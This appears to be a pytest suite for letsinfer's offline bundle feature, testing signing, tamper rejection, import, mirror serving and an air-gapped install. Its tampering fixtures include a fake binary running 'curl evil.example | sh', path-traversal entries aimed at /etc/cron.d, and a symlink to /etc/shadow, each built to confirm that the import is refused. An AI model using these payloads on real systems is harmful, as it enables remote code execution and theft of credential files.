"""Offline bundles as a site operator uses them: create, carry, import, serve.

Every tampered bundle is refused with its own message, and the node is left
exactly as it was (its mirror, model store and authority hashed before and
after). One slow round trip proves that an air-gapped machine installs
letsinfer from the bundle's wheelhouse alone and serves the bundled model.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI

from letsinfer import config
from letsinfer.authority.bootstrap import init_main
from letsinfer.bundle.archive import BundleError, open_bundle
from letsinfer.engines.releases import xllamacpp_cpu
from letsinfer.engines.tinymodel import SENTENCE, write_tiny_model
from letsinfer.home import Home
from letsinfer.mirror.fetching import FetchError, fetch_artifact
from letsinfer.mirror.layout import MirrorLayout
from letsinfer.mirror.serving import artifact_router
from letsinfer.release.keys import generate, load_private
from letsinfer.release.signatures import sign_bytes
from tests.nodes import RunningNode, free_port, letsinfer, loopback_env

Entries = list[tuple[tarfile.TarInfo, bytes]]


# -- helpers ---------------------------------------------------------------
def trust(home: Path, public_key: str) -> None:
    (home / "etc").mkdir(parents=True, exist_ok=True, mode=0o700)
    (home / "etc" / "config.toml").write_text(f'[release]\ntrusted_keys = ["{public_key}"]\n')


def make_main(home: Path, public_key: str) -> Home:
    """A main node's home (authority, model store with the tiny model) that trusts a key."""
    trust(home, public_key)
    node_home = Home.under(home)
    init_main(node_home, config.load(node_home.config_file), name="site")
    return node_home


def tree_state(home: Path) -> dict[str, str]:
    """Every file, folder and link under the home's etc and var, with content hashes."""
    state = {}
    for top in ("etc", "var"):
        for path in sorted((home / top).rglob("*")):
            rel = str(path.relative_to(home))
            if path.is_symlink():
                state[rel] = "link:" + os.readlink(path)
            elif path.is_dir():
                state[rel] = "dir"
            else:
                state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def read_entries(bundle: Path) -> Entries:
    with tarfile.open(bundle) as tar:
        out = []
        for m in tar.getmembers():
            fh = tar.extractfile(m)
            out.append((m, fh.read() if fh else b""))
        return out


def write_bundle(dest: Path, entries: Entries) -> Path:
    """Write a tar from ``entries`` with a matching .sha256, as a careful attacker would."""
    with tarfile.open(dest, "w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in entries:
            info.size = len(data) if info.isreg() else 0
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    write_checksum(dest)
    return dest


def write_checksum(bundle: Path) -> None:
    bundle.with_name(bundle.name + ".sha256").write_text(f"{sha256_of(bundle)}  {bundle.name}\n")


def member(
    name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = ""
) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o644
    return info, data


def replace(entries: Entries, name: str, data: bytes) -> Entries:
    return [(i, data if i.name == name else d) for i, d in entries]


def manifest_of(entries: Entries) -> dict:
    return json.loads(next(d for i, d in entries if i.name == "manifest.json"))


def with_manifest(entries: Entries, manifest: dict) -> Entries:
    data = (json.dumps(manifest, indent=2, sort_keys=True) + "\n").encode()
    return replace(entries, "manifest.json", data)


def import_bundle(home: Path, bundle: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return letsinfer(home, "bundle", "import", str(bundle), *extra)


# -- fixtures --------------------------------------------------------------
@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, str]]:
    """Signing keys: "site" (the site trusts it) and "mallory" (it does not)."""
    folder = tmp_path_factory.mktemp("keys")
    return {name: (folder / name, generate(folder / name).text) for name in ("site", "mallory")}


@pytest.fixture(scope="module")
def binaries(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Stand-ins for llama-server builds: small files that are runtime artifacts all the same."""
    folder = tmp_path_factory.mktemp("bin")
    out = {}
    for target in ("cpu", "cuda"):
        out[target] = folder / f"llama-server-{target}"
        out[target].write_bytes(f"#!/bin/sh\necho llama-server {target}\n".encode() * 64)
        out[target].chmod(0o755)
    return out


def create(home: Path, out: Path, key: Path, *args: str) -> Path:
    result = letsinfer(home, "bundle", "create", "--out", str(out), "--key", str(key), *args)
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture(scope="module")
def small_bundle(
    tmp_path_factory: pytest.TempPathFactory,
    keys: dict[str, tuple[Path, str]],
    binaries: dict[str, Path],
    tiny_gguf: Path,
) -> Path:
    """A bundle without a wheelhouse: the tiny model and a llama-server runtime."""
    folder = tmp_path_factory.mktemp("small")
    return create(
        folder / "builder",
        folder / "small.tar",
        keys["site"][0],
        "--no-wheels",
        "--model",
        f"tiny={tiny_gguf}",
        "--runtime",
        f"llama-server={binaries['cpu']}",
    )


@pytest.fixture(scope="module")
def site(
    tmp_path_factory: pytest.TempPathFactory,
    keys: dict[str, tuple[Path, str]],
    binaries: dict[str, Path],
) -> Path:
    """A main node whose mirror already holds one bundle (a CUDA llama-server)."""
    folder = tmp_path_factory.mktemp("site")
    home = make_main(folder / "home", keys["site"][1]).etc.parent
    first = create(
        folder / "builder",
        folder / "cuda.tar",
        keys["site"][0],
        "--no-wheels",
        "--runtime",
        f"llama-server:cuda={binaries['cuda']}",
    )
    result = import_bundle(home, first)
    assert result.returncode == 0, result.stderr
    return home


# -- tampering -------------------------------------------------------------
LLAMA = "runtimes/llama.cpp-llama-server-cpu/llama-server"


def resigned_by_mallory(entries: Entries, keys: dict[str, tuple[Path, str]]) -> Entries:
    data = next(d for i, d in entries if i.name == "manifest.json")
    signature = sign_bytes(data, load_private(keys["mallory"][0]))
    return replace(entries, "manifest.json.sig", signature.to_json())


def manifest_vouching_for_evil_bytes(entries: Entries) -> Entries:
    evil = b"#!/bin/sh\ncurl evil.example | sh\n"
    manifest = manifest_of(entries)
    for f in manifest["files"]:
        if f["path"] == LLAMA:
            f["sha256"], f["size"] = hashlib.sha256(evil).hexdigest(), len(evil)
    return replace(with_manifest(entries, manifest), LLAMA, evil)


def flip_one_byte(entries: Entries) -> Entries:
    data = next(d for i, d in entries if i.name == LLAMA)
    return replace(entries, LLAMA, data[:10] + bytes([data[10] ^ 1]) + data[11:])


Edit = Callable[[Entries, dict[str, tuple[Path, str]]], Entries]

MEMBER_TAMPERING: list[tuple[str, Edit, str]] = [
    ("resigned by an untrusted key", resigned_by_mallory, "which this node does not trust"),
    (
        "signature removed",
        lambda e, k: [(i, d) for i, d in e if i.name != "manifest.json.sig"],
        "is unsigned, and this node trusts release keys",
    ),
    (
        "manifest changed after signing",
        lambda e, k: manifest_vouching_for_evil_bytes(e),
        "does not match its signature by key",
    ),
    (
        "file bytes changed",
        lambda e, k: flip_one_byte(e),
        "does not match its sha256 in the manifest",
    ),
    (
        "file grew",
        lambda e, k: replace(e, LLAMA, next(d for i, d in e if i.name == LLAMA) + b"\n"),
        "but the manifest says",
    ),
    (
        "file missing",
        lambda e, k: [(i, d) for i, d in e if i.name != "models/tiny.gguf"],
        "'models/tiny.gguf' is listed in the manifest but missing from the bundle",
    ),
    (
        "extra file",
        lambda e, k: [*e, member("models/extra.gguf", b"GGUF")],
        "'models/extra.gguf' is not listed in the manifest",
    ),
    (
        "path with ..",
        lambda e, k: [*e, member("models/../../../etc/cron.d/evil", b"x")],
        "has a '..' component",
    ),
    ("absolute path", lambda e, k: [*e, member("/etc/cron.d/evil", b"x")], "is an absolute path"),
    (
        "symlink",
        lambda e, k: [*e, member("models/evil.gguf", kind=tarfile.SYMTYPE, link="/etc/shadow")],
        "'models/evil.gguf' is a symbolic link",
    ),
    (
        "hard link",
        lambda e, k: [
            *e,
            member("models/evil.gguf", kind=tarfile.LNKTYPE, link="models/tiny.gguf"),
        ],
        "'models/evil.gguf' is a hard link",
    ),
    (
        "device",
        lambda e, k: [*e, member("models/evil", kind=tarfile.CHRTYPE)],
        "'models/evil' is a device file",
    ),
    (
        "member twice",
        lambda e, k: [*e, member("models/tiny.gguf", b"GGUF but other bytes")],
        "'models/tiny.gguf' appears twice",
    ),
]


@pytest.mark.parametrize(
    ("edit", "message"),
    [pytest.param(edit, message, id=name) for name, edit, message in MEMBER_TAMPERING],
)
def test_a_tampered_bundle_is_refused_and_changes_nothing(
    site: Path,
    small_bundle: Path,
    keys: dict[str, tuple[Path, str]],
    tmp_path: Path,
    edit: Edit,
    message: str,
) -> None:
    tampered = write_bundle(tmp_path / "site.tar", edit(read_entries(small_bundle), keys))
    before = tree_state(site)

    result = import_bundle(site, tampered)
    checked = letsinfer(site, "bundle", "verify", str(tampered))

    assert result.returncode == 1, result.stdout
    assert message in result.stderr
    assert checked.returncode == 1 and message in checked.stderr
    assert tree_state(site) == before
    assert not (site / "run" / "mirror.lock").exists(), "not even a lock file is left"


def _first_runtime(m: dict) -> dict:
    return m["runtimes"][0]


# A signature says who vouched for a manifest, not that its values are sane.
ABSURD_FIELDS: list[tuple[str, Callable[[dict], object], str]] = [
    (
        "a file of a million terabytes",
        lambda m: m["files"][0].update(size=10**18),
        "(files.0.size: Input should be less than or equal to 1125899906842624)",
    ),
    (
        "a size that is not a whole number",
        lambda m: m["files"][0].update(size=1.5),
        "(files.0.size: Input should be a valid integer",
    ),
    (
        "a creator of 100,000 characters",
        lambda m: m.update(created_by="x" * 100_000),
        "(created_by: String should have at most 256 characters)",
    ),
    (
        "a creation time that is not a time",
        lambda m: m.update(created_at="NaN"),
        "(created_at: Value error, Invalid isoformat string",
    ),
    (
        "a model name with a control character",
        lambda m: m["models"][0].update(name="tiny\nroot"),
        "(models.0.name: String should match pattern",
    ),
    (
        "a runtime with 10,000 launch settings",
        lambda m: _first_runtime(m).update(launch={f"k{i}": "v" for i in range(10_000)}),
        "(runtimes.0.launch: Dictionary should have at most 64 items",
    ),
    (
        "a runtime target of a kilobyte",
        lambda m: _first_runtime(m).update(target="cpu" * 400),
        "(runtimes.0.target: String should match pattern",
    ),
]


@pytest.mark.parametrize(
    ("edit", "message"),
    [pytest.param(edit, message, id=name) for name, edit, message in ABSURD_FIELDS],
)
def test_a_signed_manifest_with_an_absurd_field_is_refused_and_changes_nothing(
    site: Path,
    small_bundle: Path,
    keys: dict[str, tuple[Path, str]],
    tmp_path: Path,
    edit: Callable[[dict], object],
    message: str,
) -> None:
    entries = read_entries(small_bundle)
    manifest = manifest_of(entries)
    edit(manifest)
    entries = with_manifest(entries, manifest)
    data = next(d for i, d in entries if i.name == "manifest.json")
    signature = sign_bytes(data, load_private(keys["site"][0]))  # the trusted key vouches
    bundle = write_bundle(
        tmp_path / "site.tar", replace(entries, "manifest.json.sig", signature.to_json())
    )
    before = tree_state(site)

    result = import_bundle(site, bundle)

    assert result.returncode == 1, result.stdout
    assert f"manifest.json is not a valid bundle manifest {message}" in result.stderr
    assert tree_state(site) == before
    assert not (site / "run" / "mirror.lock").exists(), "not even a lock file is left"


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        pytest.param(edit, message, id=name)
        for name, edit, message in MEMBER_TAMPERING
        if name in ("path with ..", "absolute path", "symlink", "hard link", "device")
    ],
)
def test_members_are_refused_without_the_standard_librarys_data_filter(
    small_bundle: Path,
    keys: dict[str, tuple[Path, str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    edit: Edit,
    message: str,
) -> None:
    # Debian 12's Python 3.11.2 has no tarfile.data_filter: letsinfer's own checks hold.
    tampered = write_bundle(tmp_path / "site.tar", edit(read_entries(small_bundle), keys))
    monkeypatch.delattr(tarfile, "data_filter", raising=False)

    with pytest.raises(BundleError, match=re.escape(message)), open_bundle(tampered):
        pass


def cut_in_a_file(bundle: Path, dest: Path) -> None:
    dest.write_bytes(bundle.read_bytes()[: bundle.stat().st_size // 2])
    write_checksum(dest)


def cut_between_files(bundle: Path, dest: Path) -> None:
    with tarfile.open(bundle) as tar:
        last = tar.getmembers()[-1]
    dest.write_bytes(bundle.read_bytes()[: last.offset])  # ends just before the last header
    write_checksum(dest)


def not_a_tar(bundle: Path, dest: Path) -> None:
    dest.write_bytes(b"\x1f\x8b" + os.urandom(4096))
    write_checksum(dest)


def wrong_checksum(bundle: Path, dest: Path) -> None:
    shutil.copyfile(bundle, dest)
    dest.with_name(dest.name + ".sha256").write_text(f"{'0' * 64}  {dest.name}\n")


def checksum_left_behind(bundle: Path, dest: Path) -> None:
    shutil.copyfile(bundle, dest)


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (cut_in_a_file, "is corrupt or truncated"),
        (cut_between_files, "is corrupt or truncated: no valid tar header or end-of-archive"),
        (not_a_tar, "is not a tar archive"),
        (wrong_checksum, "does not match its checksum"),
        (checksum_left_behind, "no checksum for"),
    ],
)
def test_a_damaged_bundle_is_refused_and_changes_nothing(
    site: Path,
    small_bundle: Path,
    tmp_path: Path,
    damage: Callable[[Path, Path], None],
    message: str,
) -> None:
    damaged = tmp_path / "site.tar"
    damage(small_bundle, damaged)
    before = tree_state(site)

    result = import_bundle(site, damaged)
    checked = letsinfer(site, "bundle", "verify", str(damaged))

    assert result.returncode == 1, result.stdout
    assert message in result.stderr
    assert checked.returncode == 1 and message in checked.stderr
    assert tree_state(site) == before


def test_a_node_that_trusts_no_key_imports_nothing(small_bundle: Path, tmp_path: Path) -> None:
    result = import_bundle(tmp_path / "home", small_bundle)
    assert result.returncode == 1
    assert "this node trusts no release key" in result.stderr
    assert not (tmp_path / "home" / "var" / "mirror").exists()


def test_a_bundle_refused_at_its_files_leaves_a_fresh_home_as_it_was(
    small_bundle: Path, keys: dict[str, tuple[Path, str]], tmp_path: Path
) -> None:
    # A machine before letsinfer: its home holds only the trusted key.
    home = tmp_path / "home"
    trust(home, keys["site"][1])
    tampered = write_bundle(tmp_path / "site.tar", flip_one_byte(read_entries(small_bundle)))

    result = import_bundle(home, tampered)

    assert result.returncode == 1
    assert "does not match its sha256 in the manifest" in result.stderr
    left = sorted(str(p.relative_to(home)) for p in home.rglob("*"))
    assert left == ["etc", "etc/config.toml"], "the refused import left folders behind"


# -- import, inspect, mirror -------------------------------------------------
@pytest.fixture
def fresh_site(tmp_path: Path, keys: dict[str, tuple[Path, str]]) -> Path:
    return make_main(tmp_path / "home", keys["site"][1]).etc.parent


def mirror_list(home: Path, *args: str) -> list[dict]:
    result = letsinfer(home, "mirror", "list", "--json", *args)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_import_places_the_bundle_whole_and_a_second_import_changes_nothing(
    small_bundle: Path,
    keys: dict[str, tuple[Path, str]],
    binaries: dict[str, Path],
    tiny_gguf: Path,
    tmp_path: Path,
) -> None:
    # Not a node yet: a machine is fed a bundle before letsinfer is installed on it.
    home = tmp_path / "home"
    trust(home, keys["site"][1])

    result = import_bundle(home, small_bundle, "--json")

    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    tree = Path(report["path"])
    assert report["already_imported"] is False and report["new_artifacts"] == 2
    assert report["wheelhouse"] is None  # made with --no-wheels
    assert (tree / "models" / "tiny.gguf").read_bytes() == tiny_gguf.read_bytes()
    assert report["models"] == [
        {"name": "tiny", "path": str(tree / "models" / "tiny.gguf"), "sha256": sha256_of(tiny_gguf)}
    ]
    assert (tree / LLAMA).read_bytes() == binaries["cpu"].read_bytes()
    assert report["runtimes"] == ["llama.cpp-llama-server-cpu"]
    listed = {a["digest"]: a for a in mirror_list(home)}
    assert set(listed) == {sha256_of(tiny_gguf), sha256_of(binaries["cpu"])}
    assert listed[sha256_of(tiny_gguf)]["kind"] == "model"
    blob = home / "var" / "mirror" / "sha256" / sha256_of(tiny_gguf)
    assert blob.read_bytes() == tiny_gguf.read_bytes()
    assert blob.stat().st_mode & 0o222 == 0, "mirror artifacts are read-only"
    assert [b["id"] for b in mirror_list(home, "--bundles")] == [report["bundle"]]

    before = tree_state(home)
    again = import_bundle(home, small_bundle)
    assert again.returncode == 0, again.stderr
    assert "already imported; nothing changed" in again.stdout
    assert tree_state(home) == before


def test_verify_checks_a_bundle_against_given_keys_and_writes_nothing(
    small_bundle: Path, keys: dict[str, tuple[Path, str]], tiny_gguf: Path, tmp_path: Path
) -> None:
    # A workstation that is no node: the keys come on the command line.
    home = tmp_path / "workstation"
    site_key = keys["site"][1]
    result = letsinfer(home, "bundle", "verify", str(small_bundle), "--key", site_key, "--json")

    assert result.returncode == 0, result.stderr
    doc = json.loads(result.stdout)
    assert doc["sha256"] == sha256_of(small_bundle)
    assert doc["models"] == [
        {
            "name": "tiny",
            "path": "models/tiny.gguf",
            "sha256": sha256_of(tiny_gguf),
            "source": None,  # a file, not a hub model
        }
    ]
    assert doc["runtimes"] == ["llama.cpp-llama-server-cpu"]
    assert (doc["wheelhouse"], doc["letsinfer_version"]) == (False, None)  # made with --no-wheels
    assert not home.exists()

    # The id is the one an import gives the bundle in the mirror.
    trust(tmp_path / "site", site_key)
    imported = json.loads(import_bundle(tmp_path / "site", small_bundle, "--json").stdout)
    assert imported["bundle"] == doc["bundle"]

    shown = letsinfer(home, "bundle", "verify", str(small_bundle), "--key", site_key)
    assert f"bundle {doc['bundle']} is intact and signed by trusted key" in shown.stdout
    wrong = letsinfer(home, "bundle", "verify", str(small_bundle), "--key", keys["mallory"][1])
    assert wrong.returncode == 1 and "which this node does not trust" in wrong.stderr
    bad_sum = letsinfer(
        home, "bundle", "verify", str(small_bundle), "--key", site_key, "--sha256", "0" * 64
    )
    assert bad_sum.returncode == 1 and "does not match its checksum" in bad_sum.stderr
    none = letsinfer(home, "bundle", "verify", str(small_bundle))
    assert none.returncode == 1 and "trusts no release key" in none.stderr


def test_inspect_shows_the_manifest_and_whether_this_node_trusts_it(
    small_bundle: Path, keys: dict[str, tuple[Path, str]], binaries: dict[str, Path], tmp_path: Path
) -> None:
    trust(tmp_path / "trusting", keys["site"][1])
    shown = letsinfer(tmp_path / "trusting", "bundle", "inspect", str(small_bundle))
    assert shown.returncode == 0, shown.stderr
    assert "trusted: signed by key" in shown.stdout
    assert "models/tiny.gguf" in shown.stdout and "model" in shown.stdout

    trust(tmp_path / "wary", keys["mallory"][1])
    doc = json.loads(
        letsinfer(tmp_path / "wary", "bundle", "inspect", str(small_bundle), "--json").stdout
    )
    assert "which this node does not trust" in doc["trust"]
    files = {f["path"]: f for f in doc["files"]}
    assert files[LLAMA]["sha256"] == sha256_of(binaries["cpu"])
    assert files[LLAMA]["size"] == binaries["cpu"].stat().st_size
    assert doc["runtimes"][0]["artifacts"] == {"llama-server": sha256_of(binaries["cpu"])}


def test_create_takes_a_model_by_its_service_name_from_the_nodes_store(
    fresh_site: Path, keys: dict[str, tuple[Path, str]], tiny_gguf: Path, tmp_path: Path
) -> None:
    out = create(
        fresh_site, tmp_path / "models.tar", keys["site"][0], "--no-wheels", "--model", "tiny"
    )
    doc = json.loads(letsinfer(fresh_site, "bundle", "inspect", str(out), "--json").stdout)
    assert doc["models"] == [{"name": "tiny", "path": "models/tiny.gguf", "format": "gguf"}]
    assert [(f["path"], f["sha256"]) for f in doc["files"]] == [
        ("models/tiny.gguf", sha256_of(tiny_gguf))
    ]


def test_mirror_remove_refuses_what_the_authority_still_uses(
    fresh_site: Path, small_bundle: Path, binaries: dict[str, Path], tiny_gguf: Path
) -> None:
    assert import_bundle(fresh_site, small_bundle).returncode == 0
    tiny, llama = sha256_of(tiny_gguf), sha256_of(binaries["cpu"])

    # The node serves the tiny model (the same bytes, so the same digest), and
    # the import made the bundle's llama-server a runtime release.
    unused = json.loads(letsinfer(fresh_site, "mirror", "unused", "--json").stdout)
    assert unused == []

    refused = letsinfer(fresh_site, "mirror", "remove", tiny)
    assert refused.returncode == 1
    assert "still referenced by model service 'tiny'" in refused.stderr

    refused = letsinfer(fresh_site, "mirror", "remove", llama[:12])
    assert refused.returncode == 1
    assert "runtime release 'llama.cpp-llama-server-cpu-" in refused.stderr
    assert {a["digest"] for a in mirror_list(fresh_site)} == {tiny, llama}


def test_mirror_remove_deletes_an_unused_artifact_everywhere(
    fresh_site: Path, keys: dict[str, tuple[Path, str]], tmp_path: Path
) -> None:
    # A model no service uses (another name gives other bytes).
    spare_file = write_tiny_model(tmp_path / "spare.gguf", name="spare")
    spare_bundle = create(
        tmp_path / "builder",
        tmp_path / "spare.tar",
        keys["site"][0],
        "--no-wheels",
        "--model",
        f"spare={spare_file}",
    )
    report = json.loads(import_bundle(fresh_site, spare_bundle, "--json").stdout)
    spare, path = sha256_of(spare_file), "models/spare.gguf"

    removed = letsinfer(fresh_site, "mirror", "remove", spare[:12])

    assert removed.returncode == 0, removed.stderr
    assert spare not in {a["digest"] for a in mirror_list(fresh_site)}
    assert not (fresh_site / "var" / "mirror" / "sha256" / spare).exists()
    assert not (Path(report["path"]) / path).exists()
    [bundle] = mirror_list(fresh_site, "--bundles")
    assert bundle["removed_files"] == [path]
    audit = json.loads(letsinfer(fresh_site, "audit", "list", "--json").stdout)
    assert [a["action"] for a in audit[-2:]] == ["bundle.import", "mirror.remove"]

    gone = letsinfer(fresh_site, "mirror", "remove", spare)
    assert gone.returncode == 1 and "no artifact" in gone.stderr

    # Importing the bundle again restores what was removed.
    assert import_bundle(fresh_site, spare_bundle).returncode == 0
    assert (Path(report["path"]) / path).read_bytes() == spare_file.read_bytes()


def test_mirror_unused_refuses_to_answer_without_a_readable_catalog(
    fresh_site: Path, small_bundle: Path
) -> None:
    assert import_bundle(fresh_site, small_bundle).returncode == 0
    catalog = fresh_site / "var" / "mirror" / "catalog.json"
    catalog.write_text(catalog.read_text()[:100])

    for command in (("unused",), ("list",), ("remove", "0" * 64)):
        result = letsinfer(fresh_site, "mirror", *command)
        assert result.returncode == 1, command
        assert "cannot read the mirror catalog" in result.stderr

    catalog.unlink()
    result = letsinfer(fresh_site, "mirror", "unused")
    assert result.returncode == 1
    assert "it is missing, yet the mirror holds artifacts" in result.stderr


def test_create_refuses_bad_requests_before_doing_anything(
    keys: dict[str, tuple[Path, str]], tmp_path: Path
) -> None:
    out = tmp_path / "b.tar"
    cases = [
        (["--key", str(tmp_path / "nokey")], "no signing key at"),
        (["--runtime", "vllm"], "--runtime vllm: expected xllamacpp"),
        (["--runtime", "llama-server:tpu=/bin/sh"], "unknown target 'tpu'"),
        (["--model", "nonesuch"], "no such file, and"),
        (["--model", f"x={tmp_path / 'nope.gguf'}"], "no such file"),
        (["--python-version", "three"], "expected 3.N"),
    ]
    for args, message in cases:
        full = ["bundle", "create", "--out", str(out), "--no-wheels"]
        if "--key" not in args:
            full += ["--key", str(keys["site"][0])]
        result = letsinfer(tmp_path / "home", *full, *args)
        assert result.returncode == 1, args
        assert message in result.stderr, (args, result.stderr)
        assert not out.exists()
        assert list(tmp_path.glob(".bundle-*")) == []


# -- serving the mirror to other nodes ---------------------------------------
def test_the_mirror_router_serves_artifacts_by_digest_with_ranges_and_fetches_resume(
    fresh_site: Path, small_bundle: Path, tiny_gguf: Path, tmp_path: Path
) -> None:
    assert import_bundle(fresh_site, small_bundle).returncode == 0
    app = FastAPI()
    app.include_router(artifact_router(MirrorLayout.for_home(Home.under(fresh_site))))
    body = tiny_gguf.read_bytes()
    digest = sha256_of(tiny_gguf)
    seen: list[tuple[str | None, int]] = []

    async def record(response: httpx.Response) -> None:
        seen.append((response.request.headers.get("range"), response.status_code))

    async def scenario() -> None:
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app),
            base_url="http://mirror",
            event_hooks={"response": [record]},
        ) as client:
            whole = await client.get(f"/mirror/sha256/{digest}")
            assert whole.status_code == 200 and whole.content == body
            assert whole.headers["accept-ranges"] == "bytes"
            assert whole.headers["etag"] == f'"{digest}"'

            part = await client.get(f"/mirror/sha256/{digest}", headers={"Range": "bytes=100-199"})
            assert part.status_code == 206 and part.content == body[100:200]
            assert part.headers["content-range"] == f"bytes 100-199/{len(body)}"

            head = await client.head(f"/mirror/sha256/{digest}")
            assert head.status_code == 200 and int(head.headers["content-length"]) == len(body)
            assert (await client.get(f"/mirror/sha256/{'0' * 64}")).status_code == 404
            assert (await client.get("/mirror/sha256/..%2Fcatalog.json")).status_code == 404
            assert (await client.put(f"/mirror/sha256/{digest}", content=b"x")).status_code == 405

            # An interrupted download: the first 1000 bytes are already here.
            dest = tmp_path / "fetched.gguf"
            partial = dest.with_name(f".{dest.name}.{digest[:12]}.part")
            partial.write_bytes(body[:1000])
            seen.clear()
            await fetch_artifact(client, "http://mirror", digest, dest)
            assert seen == [("bytes=1000-", 206)]
            assert dest.read_bytes() == body and not partial.exists()

            # A partial file with wrong bytes is caught by the digest, and discarded.
            bad = tmp_path / "bad.gguf"
            bad.with_name(f".{bad.name}.{digest[:12]}.part").write_bytes(b"X" * 1000)
            with pytest.raises(FetchError, match="the bytes received have sha256"):
                await fetch_artifact(client, "http://mirror", digest, bad)
            assert not bad.exists()

    asyncio.run(scenario())


# -- the round trip ----------------------------------------------------------
def offline_env() -> dict[str, str]:
    """This environment without any package index, pip configuration or Python path."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "PYTHON"))}
    return {**env, "PIP_NO_INDEX": "1", "PIP_CONFIG_FILE": os.devnull}


def without_network() -> list[str]:
    """A command prefix that runs in a network namespace with no interfaces up, if allowed."""
    for prefix in (["unshare", "--net"], ["unshare", "--map-root-user", "--net"]):
        if shutil.which(prefix[0]) and subprocess.run([*prefix, "true"]).returncode == 0:
            return prefix
    return []


def start_installed_node(letsinfer_bin: Path, home: Path, cwd: Path) -> RunningNode:
    """``letsinfer up`` from an installed command (not this checkout), like tests.nodes."""
    port = free_port()
    log_path = home.parent / "node.log"
    proc = subprocess.Popen(
        [str(letsinfer_bin), "--home", str(home), "up", "--host", "127.0.0.1", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=log_path.open("w"),
        stdin=subprocess.DEVNULL,
        text=True,
        cwd=cwd,
        env={**offline_env(), "PYTHONUNBUFFERED": "1", **loopback_env(port)},
    )
    node = RunningNode(home=home, port=port, proc=proc, banner=[], log_path=log_path)
    assert proc.stdout is not None
    try:
        for line in proc.stdout:
            node.banner.append(line.rstrip("\n"))
            if line.strip().startswith("API key"):
                node.key = line.split()[2]
            if line.startswith("Ctrl-C"):
                break
        node.wait_healthy()
    except BaseException:
        node.stop()
        raise
    return node


@pytest.mark.timeout(900)
def test_round_trip_an_air_gapped_site_installs_and_serves_from_one_bundle(
    keys: dict[str, tuple[Path, str]], tiny_gguf: Path, tmp_path: Path
) -> None:
    # On the connected machine: the whole bundle, wheelhouse included.
    bundle = tmp_path / "carry" / "letsinfer-site.tar"
    bundle.parent.mkdir()
    made = letsinfer(
        tmp_path / "connected",
        "bundle",
        "create",
        "--out",
        str(bundle),
        "--key",
        str(keys["site"][0]),
        "--model",
        f"site-tiny={tiny_gguf}",
        "--runtime",
        "xllamacpp",
        timeout=600,
    )
    assert made.returncode == 0, made.stderr
    assert sha256_of(bundle) in made.stdout
    assert bundle.with_name(bundle.name + ".sha256").read_text().split()[0] == sha256_of(bundle)

    # On the air-gapped machine: import, install with no index, serve.
    site = tmp_path / "site"
    trust(site, keys["site"][1])
    imported = letsinfer(site, "bundle", "import", str(bundle), "--json", env={"PIP_NO_INDEX": "1"})
    assert imported.returncode == 0, imported.stderr
    report = json.loads(imported.stdout)
    wheelhouse = Path(report["wheelhouse"])
    assert any(p.name.startswith("letsinfer-") for p in wheelhouse.iterdir())
    assert report["runtimes"] == [xllamacpp_cpu().id]

    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, env=offline_env())
    install = subprocess.run(
        [
            *without_network(),
            str(venv / "bin" / "python"),
            "-m",
            "pip",
            "install",
            "--no-index",
            "--find-links",
            str(wheelhouse),
            "letsinfer",
        ],
        capture_output=True,
        text=True,
        env=offline_env(),
        cwd=tmp_path,
        timeout=600,
    )
    assert install.returncode == 0, install.stdout + install.stderr
    where = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "import letsinfer; print(letsinfer.__file__)"],
        capture_output=True,
        text=True,
        env=offline_env(),
        cwd=tmp_path,
    )
    assert where.stdout.startswith(str(venv)), "letsinfer must come from the wheelhouse install"

    installed = venv / "bin" / "letsinfer"
    node = start_installed_node(installed, site, cwd=tmp_path)
    try:
        [model] = report["models"]
        added = subprocess.run(
            [
                str(installed),
                "--home",
                str(site),
                "model",
                "add",
                "site-tiny",
                "--gguf",
                model["path"],
            ],
            capture_output=True,
            text=True,
            env=offline_env(),
            cwd=tmp_path,
            timeout=120,
        )
        assert added.returncode == 0, added.stderr
        deadline = time.monotonic() + 90
        while node.wait_healthy()["models"] != {"tiny": 1, "site-tiny": 1}:  # type: ignore[comparison-overlap]
            assert time.monotonic() < deadline, node.log()
            time.sleep(0.2)
        reply = node.client().chat.completions.create(
            model="site-tiny", messages=[{"role": "user", "content": "Are you there?"}]
        )
        assert reply.choices[0].message.content == SENTENCE
    finally:
        node.stop()
